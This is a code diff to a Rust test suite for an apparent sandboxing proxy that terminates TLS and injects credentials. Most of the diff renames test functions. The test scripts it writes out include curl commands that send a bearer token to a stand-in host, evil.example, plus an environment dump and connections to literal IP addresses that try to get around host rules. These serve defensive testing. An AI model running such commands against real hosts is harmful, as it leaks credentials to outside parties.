@@ -18,25 +18,37 @@ const PLACEHOLDER: &str = "vambrace-placeholder-00112233";
 
 pub(crate) fn trials() -> Vec<Trial> {
     let mut trials = vec![
-        Trial::test("tls_termination::plain_http_to_a_terminated_host_is_denied", not_tls),
-        Trial::test("tls_termination::literal_address_of_a_terminated_host_is_denied", around),
+        Trial::test(
+            "tls_termination::plain_http_to_a_terminated_host_is_denied",
+            plain_http_to_a_terminated_host_is_denied,
+        ),
+        Trial::test(
+            "tls_termination::literal_address_of_a_terminated_host_is_denied",
+            literal_address_of_a_terminated_host_is_denied,
+        ),
     ];
     for program in ["curl", "python3", "node", "git"] {
         trials.push(
             Trial::test(
                 format!("tls_termination::{program}_uses_a_credential_that_it_never_holds"),
-                move || given(program),
+                move || program_uses_a_credential_that_it_never_holds(program),
             )
             .with_ignored_flag(!is_here(program)),
         );
     }
     trials.extend([
-        Trial::test("tls_termination::methods_and_paths_are_checked", judged)
+        Trial::test("tls_termination::methods_and_paths_are_checked", methods_and_paths_are_checked)
             .with_ignored_flag(!is_here("curl")),
-        Trial::test("tls_termination::placeholder_for_another_host_is_not_replaced_and_is_reported", stray)
-            .with_ignored_flag(!is_here("curl")),
-        Trial::test("tls_termination::server_with_an_untrusted_certificate_is_rejected", stranger)
-            .with_ignored_flag(!is_here("curl")),
+        Trial::test(
+            "tls_termination::placeholder_for_another_host_is_not_replaced_and_is_reported",
+            placeholder_for_another_host_is_not_replaced_and_is_reported,
+        )
+        .with_ignored_flag(!is_here("curl")),
+        Trial::test(
+            "tls_termination::server_with_an_untrusted_certificate_is_rejected",
+            server_with_an_untrusted_certificate_is_rejected,
+        )
+        .with_ignored_flag(!is_here("curl")),
     ]);
     trials
 }
@@ -100,7 +112,7 @@ fn expect(ran: &ProbeRun, said: &str, event: &str) -> Result<(), Failed> {
 }
 
 // P5
-fn given(program: &str) -> Result<(), Failed> {
+fn program_uses_a_credential_that_it_never_holds(program: &str) -> Result<(), Failed> {
     let url = format!("https://good.example/echo/{program}");
     let script = match program {
         "curl" => format!("curl -sS -H \"Authorization: Bearer $TOKEN\" {url} 2>&1; env"),
@@ -214,10 +226,10 @@ pub(crate) fn table() -> impl Iterator<Item = (&'static str, &'static str, bool)
 }
 
 // P3
-fn judged() -> Result<(), Failed> {
+fn methods_and_paths_are_checked() -> Result<(), Failed> {
     for (name, words, event) in CASES {
         check(words, event)
-            .map_err(|fault| Failed::from(format!("{name}: {}", fault.message().unwrap_or_default())))?;
+            .map_err(|error| Failed::from(format!("{name}: {}", error.message().unwrap_or_default())))?;
     }
     // HTTP/2 is not offered.
     let ran = ask("--http2 -w '%{http_version}' https://good.example/v1/x");
@@ -225,7 +237,7 @@ fn judged() -> Result<(), Failed> {
 }
 
 // P5
-fn stray() -> Result<(), Failed> {
+fn placeholder_for_another_host_is_not_replaced_and_is_reported() -> Result<(), Failed> {
     let script = "curl -sS -H \"Authorization: Bearer $TOKEN\" http://evil.example/echo/stray 2>&1; curl -sS -u \"user:$TOKEN\" http://evil.example/echo/packed 2>&1";
     let ran = shell(way(&["good.example", "evil.example"], &[], &[], roots()), script);
     expect(&ran, &format!("you are Bearer {PLACEHOLDER}"), "placeholder evil.example 80 allowed")?;
@@ -236,7 +248,8 @@ fn stray() -> Result<(), Failed> {
     if twice && kept { Ok(()) } else { Err(format!("{}: {}", authorizations(), ran.report()).into()) }
 }
 
-fn stranger() -> Result<(), Failed> {
+// P5
+fn server_with_an_untrusted_certificate_is_rejected() -> Result<(), Failed> {
     let ran = shell(
         way(&["good.example"], &[], &[], Arc::default()),
         "curl -sS -m 10 -H \"Authorization: Bearer $TOKEN\" https://good.example/echo/stranger 2>&1",
@@ -250,7 +263,8 @@ fn stranger() -> Result<(), Failed> {
     }
 }
 
-fn not_tls() -> Result<(), Failed> {
+// P3
+fn plain_http_to_a_terminated_host_is_denied() -> Result<(), Failed> {
     let words = ["probe", "tcp", "good.example", "443", "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"];
     let way = way(&["good.example"], &[], &[], roots());
     let ran = harness().run(way.setting, std::env::current_exe().unwrap().to_str().unwrap(), &words);
@@ -260,7 +274,7 @@ fn not_tls() -> Result<(), Failed> {
 }
 
 // P3
-fn around() -> Result<(), Failed> {
+fn literal_address_of_a_terminated_host_is_denied() -> Result<(), Failed> {
     let request = "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n";
     let connect = "CONNECT 93.184.216.34:80 HTTP/1.1\\r\\nHost: 93.184.216.34\\r\\n\\r\\n";
     let (there, beside) = (["tcp", "93.184.216.34", "80", request], ["tcp", "93.184.216.35", "80", request]);
